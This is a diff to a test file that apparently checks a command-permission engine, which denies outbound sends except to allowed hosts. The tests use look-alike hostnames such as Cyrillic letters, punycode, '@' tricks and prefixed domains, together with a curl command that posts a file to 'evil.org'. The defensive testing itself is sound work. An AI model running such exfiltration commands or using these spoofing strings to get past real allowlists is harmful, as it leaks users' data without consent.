@@ -57,7 +57,7 @@ describe('a command that is hard to read', () => {
 })
 
 describe('a look-alike of a host', () => {
-  const OUT: Omit<Rule, 'id'> = { effects: ['send'], except: ['example.com', '127.0.0.1'], then: 'deny' }
+  const OUT: Omit<Rule, 'id'> = { effects: ['send'], except: ['example.com', '127.*'], then: 'deny' }
 
   it.each([
     ['Cyrillic letters', '\u0435xample.com'],
@@ -66,7 +66,8 @@ describe('a look-alike of a host', () => {
     ['two users', 'a@example.com@evil.org'],
     ['a longer name', 'example.com.evil.org'],
     ['punycode', 'xn--xample-2of.com'],
-    ['an address that begins so', '127.0.0.1.evil.org'],
+    ['a name that begins with an address', '127.0.0.1.evil.org'],
+    ['a name that begins like an address', '127.evil.org'],
     ['a backslash', 'evil.org\\@example.com'],
   ])('is not excepted: %s', async (_, host) => {
     expect(await actionOf(`curl -d @f 'https://${host}/'`, OUT)).toBe('deny')
